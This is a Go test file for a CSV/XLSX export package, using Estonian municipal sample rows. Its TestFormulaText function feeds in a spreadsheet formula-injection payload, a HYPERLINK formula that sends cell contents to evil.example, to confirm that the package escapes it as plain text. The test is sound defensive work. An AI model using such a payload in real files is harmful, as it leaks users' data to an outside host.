package tabular

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

func sample() Table {
	area := 153.99
	return Table{Sheet: "KOV", Header: []string{"EHAK", "Nimi", "Rahvaarv", "Pindala", "Muudetud"},
		Rows: [][]any{{"0793", "Tartu linn", 100724, &area, time.Date(2026, 11, 25, 0, 0, 0, 0, time.UTC)},
			{"0305", "Kiili vald", 6000, (*float64)(nil), time.Time{}}}}
}

func TestWriteCSV(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, sample()); err != nil {
		t.Fatal(err)
	}
	want := "\ufeffEHAK;Nimi;Rahvaarv;Pindala;Muudetud\n0793;Tartu linn;100724;153,99;25.11.2026\n0305;Kiili vald;6000;;\n"
	if b.String() != want {
		t.Errorf("got %q\nwant %q", b.String(), want)
	}
}

func TestWriteXLSX(t *testing.T) {
	var b bytes.Buffer
	if err := WriteXLSX(&b, sample()); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := f.GetRows("KOV")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 3 || rows[1][1] != "Tartu linn" || rows[1][2] != "100724" || rows[0][3] != "Pindala" {
		t.Errorf("rows %q", rows)
	}
	typ, _ := f.GetCellType("KOV", "C2")
	if typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
		t.Errorf("population cell type %v, want number", typ)
	}
}

func TestWriteWorkbook(t *testing.T) {
	var b bytes.Buffer
	second := Table{Sheet: "Kokkuvõte", Header: []string{"Näitaja", "Väärtus"}, Rows: [][]any{{"Eelarve", 1000.5}}}
	if err := WriteWorkbook(&b, second, sample()); err != nil {
		t.Fatal(err)
	}
	data := b.Bytes()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	if got := f.GetSheetList(); len(got) != 2 || got[0] != "Kokkuvõte" || got[1] != "KOV" {
		t.Fatalf("sheets %q", got)
	}
	if v, _ := f.GetCellValue("Kokkuvõte", "B2"); v != "1000.5" {
		t.Errorf("B2 %q", v)
	}
	if rows, _ := f.GetRows("KOV"); len(rows) != 3 || rows[2][1] != "Kiili vald" {
		t.Errorf("second sheet %q", rows)
	}
	// The first sheet is the one a reader of the file meets, and the one Read reads.
	header, rows, err := Read(bytes.NewReader(data), "x.xlsx")
	if err != nil || header[0] != "Näitaja" || len(rows) != 1 {
		t.Errorf("Read: %q %q %v", header, rows, err)
	}
}

// TestFormulaText: text that a spreadsheet would run as a formula is written as text in
// both formats, numbers stay numbers, and Restore gives the CSV's text back for an import.
func TestFormulaText(t *testing.T) {
	evil := `=HYPERLINK("http://evil.example/?d="&A1,"Click")`
	texts := []string{evil, "+372 5555", "-5", "@SUM(A1)", "\tx", "\rx", "'=x", "'quoted"}
	row := []any{-5, -1.5}
	for _, s := range texts {
		row = append(row, s)
	}
	tb := Table{Sheet: "T", Header: []string{"a", "b", "c", "d", "e", "f", "g", "h", "i", "j"}, Rows: [][]any{row}}
	var b bytes.Buffer
	if err := WriteCSV(&b, tb); err != nil {
		t.Fatal(err)
	}
	header, rows, err := Read(bytes.NewReader(b.Bytes()), "t.csv")
	if err != nil || len(header) != 10 || len(rows) != 1 {
		t.Fatalf("Read: %q %q %v", header, rows, err)
	}
	if rows[0][0] != "-5" || rows[0][1] != "-1,5" {
		t.Errorf("numbers %q %q, want -5 and -1,5", rows[0][0], rows[0][1])
	}
	for i, s := range rows[0][2:] {
		if s != "" && strings.ContainsRune(formulaStart, rune(s[0])) {
			t.Errorf("cell %d %q starts with a formula character", i+2, s)
		}
	}
	Restore(rows)
	for i, want := range texts {
		if got := rows[0][i+2]; got != want {
			t.Errorf("restored %q, want %q", got, want)
		}
	}

	b.Reset()
	if err := WriteXLSX(&b, tb); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	for i, want := range texts {
		cell, _ := excelize.CoordinatesToCellName(i+3, 2)
		if formula, _ := f.GetCellFormula("T", cell); formula != "" {
			t.Errorf("%s is the formula %q", cell, formula)
		}
		if typ, _ := f.GetCellType("T", cell); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
			t.Errorf("%s type %v, want a string", cell, typ)
		}
		if got, _ := f.GetCellValue("T", cell); got != want {
			t.Errorf("%s %q, want %q", cell, got, want)
		}
	}
}
